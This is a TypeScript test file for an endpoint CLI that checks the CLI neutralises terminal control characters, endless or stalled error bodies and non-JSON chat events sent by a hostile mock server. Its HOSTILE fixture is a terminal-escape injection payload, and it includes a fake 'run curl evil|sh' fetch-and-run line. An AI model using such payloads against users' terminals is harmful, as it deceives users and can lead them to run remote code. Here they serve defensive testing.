/**
 * The endpoint CLI, run as a process, against a hostile or broken server: a node:http server in this file that
 * answers the CLI's GraphQL queries, its subscriptions (graphql-transport-ws over a real WebSocket) and the chat
 * and tokenize routes with what a teammate or a broken proxy could send. Text with terminal controls in it, error
 * bodies that never end, and events that are not JSON.
 */
import { execFile } from 'node:child_process';
import { once } from 'node:events';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, inject, test } from 'vitest';
import { WebSocketServer } from 'ws';

/** A comment a teammate could save: sets the window title, clears the screen, prints a red fake line; a C1 CSI, a tab, a bidi override. */
const HOSTILE = 'fixed\n\x1b]0;PWNED-TITLE\x07\x1b[2J\x1b[31mFAKE: run curl evil|sh\x1b[0m\u009b31m\tend\u202edne';
/** HOSTILE as human output draws it on one line (render.ts). */
const DRAWN = 'fixed␊␛]0;PWNED-TITLE␇␛[2J␛[31mFAKE: run curl evil|sh␛[0m\\x9b31m end\\u202edne';
/** Any control but a newline or a tab: none may reach the terminal. */
// eslint-disable-next-line no-control-regex
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

const servers: http.Server[] = [];
afterEach(async () => {
  for (const server of servers.splice(0)) {
    server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  }
});

type Handler = (request: http.IncomingMessage, body: string, response: http.ServerResponse) => void;

/** A server on a free port answering with `handler` (and `subscriptions` on /graphql's WebSocket); its base URL. */
async function serve(handler: Handler, subscriptions: Record<string, unknown> = {}): Promise<string> {
  const server = http.createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => handler(request, body, response));
  });
  // graphql-transport-ws, as much as the CLI uses: ack the init, answer a subscription with one result, complete it.
  const sockets = new WebSocketServer({ server, path: '/graphql' });
  sockets.on('connection', (socket) => {
    socket.on('message', (raw: Buffer) => {
      const message = JSON.parse(raw.toString()) as { id?: string; type: string; payload?: { query: string } };
      if (message.type === 'connection_init') socket.send(JSON.stringify({ type: 'connection_ack' }));
      if (message.type !== 'subscribe') return;
      const name = /subscription (\w+)/.exec(message.payload!.query)![1]!;
      socket.send(JSON.stringify({ id: message.id, type: 'next', payload: { data: subscriptions[name] } }));
      socket.send(JSON.stringify({ id: message.id, type: 'complete' }));
    });
  });
  server.on('close', () => sockets.close());
  servers.push(server);
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** A GraphQL server answering each query by its operation's name. */
function graphql(answers: Record<string, unknown>): Handler {
  return (_request, body, response) => {
    const name = /(?:query|mutation) (\w+)/.exec((JSON.parse(body) as { query: string }).query)?.[1] ?? '';
    response.writeHead(200, { 'content-type': 'application/json' });
    response.end(JSON.stringify(answers[name] ?? { errors: [{ message: `no answer for ${name}` }] }));
  };
}

/**
 * A 500 whose body never ends (a proxy's error page streaming forever): 32 MB as fast as the client reads it, then
 * nothing, the answer still open. Enough that a client reading it whole is seen to hang, not so much that one does
 * harm to the machine while it hangs.
 */
const endlessError: Handler = (_request, _body, response) => {
  response.writeHead(500, { 'content-type': 'text/html' });
  const chunk = `<p>${'x'.repeat(65_536)}</p>`;
  let left = 500;
  const pump = () => {
    while (!response.destroyed && left-- > 0 && response.write(chunk));
  };
  response.on('drain', pump);
  pump();
};

interface Run {
  code: number | null;
  stdout: string;
  stderr: string;
  ms: number;
}

/** Runs the CLI (the run's bundle: test/support/global-setup.ts) against `baseUrl`, killed after 20 s (a hang). */
function cli(baseUrl: string, args: string[]): Promise<Run> {
  const started = Date.now();
  return new Promise((resolve) => {
    execFile(
      process.execPath,
      [inject('cliBundle'), ...args],
      {
        env: {
          ...process.env,
          DEDICATED_BASE_URL: baseUrl,
          DEDICATED_API_KEY: 'dek_test',
          DEDICATED_CONFIG: path.join(os.tmpdir(), 'dedicated-hostile-none.json'),
          NO_COLOR: '1',
        },
        timeout: 20_000,
      },
      (error, stdout, stderr) =>
        resolve({ code: error ? ((error as { code?: number }).code ?? null) : 0, stdout, stderr, ms: Date.now() - started }),
    );
  });
}

const SPEC = {
  name: 'ep',
  gpuType: 'H100',
  numGpu: 1,
  instanceId: 'TwD5AqnBSVN0',
  projectId: 'prj_1',
  teamId: 'team_1',
  creatorId: 'usr_1',
  hfModelRepo: 'a/b',
  hfModelRepoRevision: null,
  autoscalingMin: 0,
  autoscalingMax: 1,
  autoscalingCooldown: 300,
  maxBatchSize: 8,
  maxTokenCount: 4096,
  maxInputLength: 2048,
  tokenizerSkipSpecialTokens: false,
  tokenizerAddSpecialTokens: false,
  enableContentLogging: false,
};
const STATUS = {
  endpointId: 'ep_1',
  status: 'FAILED',
  phase: null,
  errorCode: 'X',
  errorMessage: HOSTILE,
  waitReason: null,
  currReplicaCnt: 0,
  desiredReplicaCnt: 1,
  updatedReplicaCnt: 0,
  createdAt: '2026-01-01T00:00:00Z',
  updatedAt: '2026-01-01T00:00:00Z',
};
const REPLICA = {
  id: 'rep_1',
  state: 'FAILED',
  versionIndex: 0,
  runtime: 'LOCAL',
  node: 'n1',
  gpuType: 'H100',
  numGpu: 1,
  since: '2026-01-01T00:00:00Z',
  createdAt: '2026-01-01T00:00:00Z',
  readyAt: null,
  endedAt: '2026-01-01T00:00:00Z',
  lastError: HOSTILE,
};
const pageInfo = { hasNextPage: false, endCursor: null };
const ANSWERS = {
  EndpointVersions: {
    data: {
      endpoint: {
        id: 'ep_1',
        versions: {
          pageInfo,
          edges: [
            {
              cursor: 'c',
              node: {
                versionIndex: 1,
                comment: HOSTILE,
                rolloutState: 'CURRENT',
                rolledBackFrom: null,
                createdAt: '2026-01-01T00:00:00Z',
                creator: { id: 'usr_1' },
                spec: SPEC,
              },
            },
          ],
        },
      },
    },
  },
  Endpoint: {
    data: {
      endpoint: {
        id: 'ep_1',
        name: HOSTILE,
        createdAt: '2026-01-01T00:00:00Z',
        updatedAt: '2026-01-01T00:00:00Z',
        status: STATUS,
        spec: SPEC,
        currentVersion: { versionIndex: 1, comment: HOSTILE, rolloutState: 'CURRENT' },
      },
    },
  },
  EndpointReplicas: {
    data: { endpoint: { id: 'ep_1', replicas: { nodes: [REPLICA], failures: { windowSeconds: 600, count: 1, last: REPLICA } } } },
  },
  EndpointEvents: {
    data: {
      endpoint: {
        id: 'ep_1',
        events: {
          pageInfo,
          edges: [
            {
              cursor: 'c',
              node: {
                id: '1',
                type: 'STATUS',
                status: 'FAILED',
                phase: null,
                errorCode: null,
                versionIndex: null,
                replicas: null,
                cause: 'engine',
                message: HOSTILE,
                createdAt: '2026-01-01T00:00:00Z',
              },
            },
          ],
        },
      },
    },
  },
  EndpointLogs: { data: { endpoint: { id: 'ep_1', logs: { replicaId: 'rep_1', lines: ['loaded\tok', HOSTILE] } } } },
  Endpoints: { errors: [{ message: HOSTILE }] },
};
const SUBSCRIPTIONS = {
  EndpointStatusWatch: {
    endpointStatus: {
      status: { ...STATUS, downloadProgress: null },
      event: { id: '2', type: 'STATUS', cause: 'engine', message: HOSTILE },
    },
  },
  ReplicaLogs: { replicaLogs: { replicaId: 'rep_1', lines: ['loaded\tok', HOSTILE] } },
};
/** HOSTILE as a log line's body prints it: its newline and tab kept, the other controls drawn. */
const DRAWN_BODY = 'fixed\n␛]0;PWNED-TITLE␇␛[2J␛[31mFAKE: run curl evil|sh␛[0m\\x9b31m\tend\\u202edne';

describe('dedicated against a hostile server', () => {
  test("tables and fields draw the server's control characters (a row stays one line); --json keeps the text exact", async () => {
    const url = await serve(graphql(ANSWERS));
    const [versions, get, replicas, events, json] = await Promise.all([
      cli(url, ['endpoints', 'versions', 'ep_1']),
      cli(url, ['endpoints', 'get', 'ep_1']),
      cli(url, ['replicas', 'ep_1']),
      cli(url, ['events', 'ep_1']),
      cli(url, ['--json', 'endpoints', 'versions', 'ep_1']),
    ]);
    for (const run of [versions, get, replicas, events]) {
      expect(run.code, run.stderr).toBe(0);
      expect(run.stdout).not.toMatch(RAW_CONTROL);
      expect(run.stdout).toContain(DRAWN);
    }
    const rows = versions.stdout.trimEnd().split('\n');
    expect(rows).toHaveLength(2);
    expect(rows[1]).toMatch(new RegExp(`^1\\s+CURRENT\\s+a/b\\s+8\\s+4096\\s+0–1\\s+2026-01-01T00:00:00Z\\s+${escapeRegExp(DRAWN)}$`));
    expect(get.stdout).toMatch(new RegExp(`^name\\s+${escapeRegExp(DRAWN)}$`, 'm'));
    expect(get.stdout).toMatch(new RegExp(`^error\\s+${escapeRegExp(DRAWN)}$`, 'm'));
    expect(replicas.stdout.split('\n')).toHaveLength(4); // header, the replica, the failures line, the final newline
    expect(events.stdout.trimEnd().split('\n')).toHaveLength(2);
    expect(json.code, json.stderr).toBe(0);
    expect((JSON.parse(json.stdout) as { comment: string }[])[0]!.comment).toBe(HOSTILE);
  });

  test('log lines keep their newlines and tabs and draw the other controls, printed or followed; status --watch and errors draw them too', async () => {
    const url = await serve(graphql(ANSWERS), SUBSCRIPTIONS);
    const [logs, followed, watched, failed, json] = await Promise.all([
      cli(url, ['logs', 'ep_1']),
      cli(url, ['logs', 'ep_1', '--follow']),
      cli(url, ['status', 'ep_1', '--watch']),
      cli(url, ['endpoints', 'list']),
      cli(url, ['--json', 'logs', 'ep_1', '--follow']),
    ]);
    for (const run of [logs, followed]) {
      expect(run.code, run.stderr).toBe(0);
      expect(run.stdout).toBe(`loaded\tok\n${DRAWN_BODY}\n`);
    }
    expect(watched.code, watched.stderr).toBe(0);
    expect(watched.stdout).not.toMatch(RAW_CONTROL);
    expect(watched.stdout.trimEnd().split('\n')).toEqual([expect.stringMatching(/FAILED\s+X\s+replicas 0\/1$/), `          ${DRAWN}`]);
    expect(failed.code).toBe(1);
    expect(failed.stderr).toBe(`error: ${DRAWN}\n`);
    expect(json.code, json.stderr).toBe(0);
    expect(JSON.parse(json.stdout)).toEqual(SUBSCRIPTIONS.ReplicaLogs.replicaLogs);
  });

  test('an error body that never ends, or stalls, is given up on: HTTP <status>, exit 1, in seconds', { timeout: 60_000 }, async () => {
    const endless = await serve(endlessError);
    const stalled = await serve((_request, _body, response) => {
      response.writeHead(502, { 'content-type': 'application/json' });
      response.write('{"error":{"message":"never fini');
    });
    const small = await serve((_request, _body, response) => {
      response.writeHead(400, { 'content-type': 'application/json' });
      response.end(JSON.stringify({ error: { message: 'the prompt is too long' } }));
    });
    const runs = await Promise.all([
      cli(endless, ['tokenize', 'ep_1', 'hi']),
      cli(endless, ['chat', 'ep_1', 'hi']),
      cli(endless, ['endpoints', 'list']),
      cli(stalled, ['tokenize', 'ep_1', 'hi']),
      cli(stalled, ['endpoints', 'versions', 'ep_1']),
      cli(small, ['chat', 'ep_1', 'hi']),
    ]);
    const [tokenized, chatted, listed, stalledTokenize, stalledGraphql, refused] = runs;
    expect(runs.map((run) => run.code)).toEqual([1, 1, 1, 1, 1, 1]);
    expect(tokenized!.stderr).toBe('error: HTTP 500: Internal Server Error\n');
    expect(chatted!.stderr).toBe('error: HTTP 500: Internal Server Error\n');
    expect(listed!.stderr).toBe('error: HTTP 500\n');
    expect(stalledTokenize!.stderr).toBe('error: HTTP 502: Bad Gateway\n');
    expect(stalledGraphql!.stderr).toBe('error: HTTP 502\n');
    expect(refused!.stderr).toBe('error: HTTP 400: the prompt is too long\n');
  });

  test('a chat event that is not JSON is one line and exit 1, and a stream left open does not hold the CLI', async () => {
    const html =
      (keepOpen: boolean): Handler =>
      (_request, _body, response) => {
        response.writeHead(200, { 'content-type': 'text/event-stream' });
        response.write('data: <html>Bad gateway</html>\n\n');
        if (!keepOpen) response.end();
      };
    const runs = await Promise.all([
      cli(await serve(html(false)), ['chat', 'ep_1', 'hi']),
      cli(await serve(html(true)), ['chat', 'ep_1', 'hi']),
    ]);
    for (const run of runs) {
      expect(run.code, `after ${run.ms} ms: ${run.stderr}`).toBe(1);
      expect(run.stderr).toBe('error: the server sent an event that is not JSON\n');
    }
  });
});

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
